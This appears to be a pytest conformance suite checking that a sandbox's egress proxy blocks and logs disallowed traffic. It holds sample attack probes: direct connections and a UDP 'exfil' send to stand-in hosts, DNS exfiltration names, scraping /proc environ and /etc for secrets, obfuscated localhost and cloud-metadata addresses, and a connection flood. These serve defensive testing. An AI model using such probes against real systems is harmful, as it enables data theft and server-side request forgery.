"""Egress conformance: what a backend with `capabilities.egress` must prove.

The "internet" is HTTP servers on the host's 127.0.0.1 that each test starts;
inside a sandbox 127.0.0.1 is the sandbox's own loopback, so the host's
servers are reachable only through the gateway's egress proxy. A backend's
test module subclasses `EgressConformance` and provides `backend`, made with
`egress_resolver=conformance_resolver()`: the proxy's names resolve as the
tests say (to the host's loopback, where the canaries listen), never by DNS.
"""

from __future__ import annotations

import itertools
import json
import secrets
from collections.abc import AsyncIterator
from dataclasses import dataclass, field

import pytest
import pytest_asyncio
from aiohttp import web

from backends.base import Credential, ExecResult, ExecSpec, Limits, SandboxBackend
from backends.egress.addresses import INTERNAL_ADDRESS, NONCANONICAL_ADDRESS
from tests.backends.egress.resolvers import MapResolver
from tests.components import missing_component

_ids = itertools.count(1)


@dataclass
class LocalServer:
    port: int
    host: str = "127.0.0.1"
    requests: list[dict[str, str]] = field(default_factory=list)

    @property
    def destination(self) -> str:
        return f"[{self.host}]:{self.port}" if ":" in self.host else f"{self.host}:{self.port}"


# What the backend's proxy resolves: names below egress.test lead inside.
NAMES = {
    "loop.egress.test": ("127.0.0.1",),
    "loop6.egress.test": ("::1",),
    "mapped.egress.test": ("::ffff:127.0.0.1",),
    "metadata.egress.test": ("169.254.169.254",),
    "private.egress.test": ("10.0.0.1",),
    "cgnat.egress.test": ("100.64.0.1",),
    "mixed.egress.test": ("192.0.2.10", "127.0.0.1"),
}


def conformance_resolver() -> MapResolver:
    return MapResolver(NAMES)


async def serve(host: str = "127.0.0.1") -> AsyncIterator[LocalServer]:
    server = LocalServer(port=0, host=host)

    async def hello(request: web.Request) -> web.Response:
        server.requests.append({"path": request.path_qs, **dict(request.headers)})
        return web.Response(text="hello from the outside")

    app = web.Application()
    app.router.add_get("/{tail:.*}", hello)
    runner = web.AppRunner(app)
    await runner.setup()
    site = web.TCPSite(runner, host, 0)
    try:
        await site.start()
    except OSError:
        await runner.cleanup()
        missing_component(f"a loopback listener on {host}")
    server.port = runner.addresses[0][1]
    try:
        yield server
    finally:
        await runner.cleanup()


async def run_python(
    backend: SandboxBackend,
    code: str,
    egress: tuple[str, ...] = (),
    credentials: tuple[Credential, ...] = (),
    internal_allow: tuple[str, ...] = (),
) -> ExecResult:
    if not backend.capabilities.egress:
        missing_component(f"{backend.name} has no controlled egress")
    spec = ExecSpec(
        execution_id=f"exe_egress_{next(_ids)}",
        language="python",
        code=code,
        limits=Limits(timeout_s=20.0, memory_mb=256, pids=64, disk_mb=16),
        egress=egress,
        credentials=credentials,
        internal_allow=internal_allow,
    )
    return await backend.run(spec)


def fetch(url: str) -> str:
    """Python in the sandbox: GET url with the proxy settings it was given."""
    return (
        "import urllib.request, urllib.error\n"
        "try:\n"
        f"    print(urllib.request.urlopen({url!r}, timeout=10).read().decode())\n"
        "except urllib.error.HTTPError as e:\n"
        "    print('refused', e.code)\n"
        "except OSError as e:\n"
        "    print('failed', e)\n"
    )


def attempts(result: ExecResult, kind: str) -> list[tuple[str, int, str]]:
    return [(a.host, a.port, a.verdict) for a in result.network if a.kind == kind]


# Python in the sandbox: ask the proxy (its listener on the sandbox's loopback)
# by CONNECT (then GET / through the tunnel) and by absolute-URI GET; prints one
# line per request: the proxy's status and, when 200, the canary's answer.
PROXY_CLIENT = """
import socket
def ask(head, then=b''):
    s = socket.create_connection(('127.0.0.1', 3128), timeout=10)
    s.sendall(head.encode() + b'\\r\\n\\r\\n')
    data = b''
    while b'\\r\\n\\r\\n' not in data:
        chunk = s.recv(4096)
        if not chunk:
            break
        data += chunk
    status = data.split(b' ', 2)[1].decode() if data else 'nothing'
    if then and status == '200':
        s.sendall(then)
    while chunk := s.recv(4096):
        data += chunk
    s.close()
    body = data.rsplit(b'\\r\\n\\r\\n', 1)[-1].decode()
    return status + (' ' + body if status == '200' else '')
GET = 'GET / HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n'
def both(authority):
    print(ask('CONNECT %s HTTP/1.1\\r\\nHost: %s' % (authority, authority), GET.encode()))
    print(ask('GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close'
              % (authority, authority)))
"""


def ask_both(*authorities: str) -> str:
    return PROXY_CLIENT + "".join(f"both({a!r})\n" for a in authorities)


class EgressConformance:
    @pytest.fixture
    async def allowed_server(self) -> AsyncIterator[LocalServer]:
        async for server in serve():
            yield server

    @pytest.fixture
    async def other_server(self) -> AsyncIterator[LocalServer]:
        async for server in serve():
            yield server

    async def test_allowed_server_reachable_through_the_proxy(
        self, backend: SandboxBackend, allowed_server: LocalServer
    ) -> None:
        url = f"http://{allowed_server.destination}/data?q=1"
        result = await run_python(backend, fetch(url), egress=(allowed_server.destination,))
        assert result.stdout.decode().strip() == "hello from the outside", result
        assert allowed_server.requests[0]["path"] == "/data?q=1"
        (entry,) = [a for a in result.network if a.kind == "http"]
        assert (entry.host, entry.port, entry.verdict) == (
            "127.0.0.1",
            allowed_server.port,
            "allowed",
        )
        assert entry.rule == allowed_server.destination and entry.detail == "GET /data?q=1"

    async def test_disallowed_server_refused_and_recorded(
        self, backend: SandboxBackend, allowed_server: LocalServer, other_server: LocalServer
    ) -> None:
        code = fetch(f"http://{other_server.destination}/x") + (
            "import socket\n"
            "s = socket.create_connection(('127.0.0.1', 3128), timeout=5)\n"
            f"s.sendall(b'CONNECT {other_server.destination} HTTP/1.1\\r\\n\\r\\n')\n"
            "print(s.recv(100).split(b'\\r\\n')[0].decode())\n"
        )
        result = await run_python(backend, code, egress=(allowed_server.destination,))
        assert result.stdout.decode().splitlines() == ["refused 403", "HTTP/1.1 403 Forbidden"]
        assert other_server.requests == []
        blocked = ("127.0.0.1", other_server.port, "blocked")
        assert attempts(result, "http") == [blocked] and attempts(result, "connect") == [blocked]

    async def test_nothing_allowed_by_default(
        self, backend: SandboxBackend, allowed_server: LocalServer
    ) -> None:
        result = await run_python(backend, fetch(f"http://{allowed_server.destination}/"))
        assert result.stdout.decode().strip() == "refused 403"
        assert allowed_server.requests == []
        assert attempts(result, "http") == [("127.0.0.1", allowed_server.port, "blocked")]

    async def test_direct_connect_ignoring_the_proxy_blocked_and_recorded(
        self, backend: SandboxBackend, allowed_server: LocalServer
    ) -> None:
        # Allowed through the proxy, yet not directly; and nowhere else either.
        code = (
            "import socket\n"
            "for family, addr in ((socket.AF_INET, ('198.51.100.7', 4444)),\n"
            "                     (socket.AF_INET6, ('2001:db8::7', 4445))):\n"
            "    s = socket.socket(family)\n"
            "    s.settimeout(5)\n"
            "    try:\n"
            "        s.connect(addr)\n"
            "        print('connected')\n"
            "    except OSError as e:\n"
            "        print('blocked', type(e).__name__)\n"
            "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "u.sendto(b'exfil', ('198.51.100.8', 9999))\n"
        )
        result = await run_python(backend, code, egress=(allowed_server.destination,))
        assert result.stdout.decode().splitlines() == ["blocked ConnectionRefusedError"] * 2
        assert ("198.51.100.7", 4444, "blocked") in attempts(result, "tcp")
        assert ("2001:db8::7", 4445, "blocked") in attempts(result, "tcp")
        assert attempts(result, "udp") == [("198.51.100.8", 9999, "blocked")]

    async def test_dns_exfiltration_recorded_and_answered_with_nothing(
        self, backend: SandboxBackend
    ) -> None:
        code = (
            "import socket, struct\n"
            "try:\n"
            "    print(socket.getaddrinfo('secret-data.exfil.test', 443))\n"
            "except socket.gaierror as e:\n"
            "    print('unresolved', e.errno == socket.EAI_NONAME)\n"
            # Straight to a public resolver, ignoring resolv.conf.
            "q = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0)\n"
            "q += b'\\x04more\\x05exfil\\x04test\\x00' + struct.pack('>HH', 1, 1)\n"
            "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "u.settimeout(5)\n"
            "u.sendto(q, ('9.9.9.9', 53))\n"
            "answer = u.recv(512)\n"
            "print('rcode', answer[3] & 15, 'answers', struct.unpack('>H', answer[6:8])[0])\n"
        )
        result = await run_python(backend, code)
        assert result.stdout.decode().splitlines() == ["unresolved True", "rcode 3 answers 0"]
        names = {a.host for a in result.network if a.kind == "dns"}
        assert names == {"secret-data.exfil.test", "more.exfil.test"}
        assert all(a.verdict == "blocked" for a in result.network)

    async def test_provisioned_secret_reaches_only_its_destination(
        self, backend: SandboxBackend, allowed_server: LocalServer, other_server: LocalServer
    ) -> None:
        secret = "sekret-" + secrets.token_hex(12)
        credential = Credential(allowed_server.destination, "Authorization", f"Bearer {secret}")
        look = (
            "import os, json, glob\n"
            "seen = json.dumps(dict(os.environ))\n"
            "for path in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline'):\n"
            "    try:\n"
            "        seen += open(path, 'rb').read().decode(errors='replace')\n"
            "    except OSError:\n"
            "        pass\n"
            "for root in ('/etc', '/tmp', '/workspace', '/code'):\n"
            "    for path in glob.glob(root + '/**', recursive=True):\n"
            "        try:\n"
            "            seen += open(path, errors='replace').read()\n"
            "        except OSError:\n"
            "            pass\n"
            # Joined at run time: the code file itself holds only the halves.
            f"needle = {secret[:12]!r} + {secret[12:]!r}\n"
            "print('visible' if needle in seen else 'invisible')\n"
        )
        code = (
            fetch(f"http://{allowed_server.destination}/a")
            + fetch(f"http://{other_server.destination}/b")
            + look
        )
        egress = (allowed_server.destination, other_server.destination)
        result = await run_python(backend, code, egress=egress, credentials=(credential,))
        out = result.stdout.decode().splitlines()
        assert out == ["hello from the outside"] * 2 + ["invisible"], out
        assert allowed_server.requests[0]["Authorization"] == f"Bearer {secret}"
        assert "Authorization" not in other_server.requests[0]
        assert secret not in json.dumps([a.__repr__() for a in result.network])
        assert secret not in repr(credential)

    async def test_flood_of_attempts_is_bounded(self, backend: SandboxBackend) -> None:
        code = (
            "import socket\n"
            "refused = 0\n"
            "for i in range(10000):\n"
            "    s = socket.socket()\n"
            "    try:\n"
            "        s.connect(('198.51.100.%d' % (i % 200 + 1), 1000 + i))\n"
            "    except OSError:\n"
            "        refused += 1\n"
            "    s.close()\n"
            "print(refused)\n"
        )
        result = await run_python(backend, code)
        assert result.stdout.decode().strip() == "10000", result
        assert 0 < len(result.network) <= 256
        (event,) = [e for e in result.events if e.kind == "network_record_full"]
        assert int(event.detail.split()[0]) > 0

    @pytest.fixture
    async def server6(self) -> AsyncIterator[LocalServer]:
        async for server in serve("::1"):
            yield server

    async def test_names_never_reach_internal_addresses(
        self, backend: SandboxBackend, allowed_server: LocalServer, server6: LocalServer
    ) -> None:
        # Each name is allowed (exact, by suffix, by `*`) and leads to the host's
        # loopback, where a canary listens, or elsewhere inside; none gets through.
        port, port6 = allowed_server.port, server6.port
        names = [f"{n}:{port6 if n.startswith('loop6') else port}" for n in NAMES]
        odd = ["localhost", "LOCALHOST.", "api.localhost", "127.1", "2130706433", "0x7f.1",
               "0177.0.0.1", "127.0.1"]  # fmt: skip
        targets = names + [f"{host}:{port}" for host in odd]
        egress = ("*.egress.test:*", f"localhost:{port}", f"*:{port}", "127.0.0.0/8:1")
        result = await run_python(backend, ask_both(*targets), egress=egress)
        assert result.stdout.decode().splitlines() == ["403"] * 2 * len(targets), result
        assert allowed_server.requests == [] and server6.requests == []
        proxied = [a for a in result.network if a.kind in ("connect", "http")]
        assert len(proxied) == 2 * len(targets)
        assert all(a.verdict == "blocked" for a in proxied)
        rules = {a.host: a.rule for a in proxied}
        assert {rules[t.rsplit(":", 1)[0]] for t in names} == {INTERNAL_ADDRESS}
        assert rules["localhost"] == rules["api.localhost"] == INTERNAL_ADDRESS
        assert {rules[h] for h in odd[3:]} == {NONCANONICAL_ADDRESS}

    async def test_literal_entries_and_operator_ranges_reach_inside_deliberately(
        self, backend: SandboxBackend, allowed_server: LocalServer, server6: LocalServer
    ) -> None:
        port, port6 = allowed_server.port, server6.port
        hello = "200 hello from the outside"
        # Literal and CIDR entries, IPv6 and IPv4.
        egress = (f"[::1]:{port6}", f"127.0.0.0/8:{port}")
        result = await run_python(
            backend, ask_both(f"[::1]:{port6}", f"127.0.0.1:{port}"), egress=egress
        )
        assert result.stdout.decode().splitlines() == [hello] * 4, result
        assert len(server6.requests) == 2 and len(allowed_server.requests) == 2
        assert [a.rule for a in result.network if a.verdict == "allowed"] == [
            egress[0], egress[0], egress[1], egress[1]
        ]  # fmt: skip
        # A name, once the operator allowed the range it resolves into.
        names = (f"loop.egress.test:{port}", f"loop6.egress.test:{port6}")
        result = await run_python(
            backend, ask_both(*names), egress=names, internal_allow=("127.0.0.0/8", "::1/128")
        )
        assert result.stdout.decode().splitlines() == [hello] * 4, result
        assert len(server6.requests) == 4 and len(allowed_server.requests) == 4
        details = [a.detail for a in result.network if a.verdict == "allowed"]
        assert details == ["(127.0.0.1)", "GET / (127.0.0.1)", "(::1)", "GET / (::1)"]


class ModuleLoopEgressConformance(EgressConformance):
    """For backends started once per module: the servers live on the module's loop,
    like the backend that reaches them."""

    @pytest_asyncio.fixture(loop_scope="module")
    async def allowed_server(self) -> AsyncIterator[LocalServer]:
        async for server in serve():
            yield server

    @pytest_asyncio.fixture(loop_scope="module")
    async def other_server(self) -> AsyncIterator[LocalServer]:
        async for server in serve():
            yield server

    @pytest_asyncio.fixture(loop_scope="module")
    async def server6(self) -> AsyncIterator[LocalServer]:
        async for server in serve("::1"):
            yield server
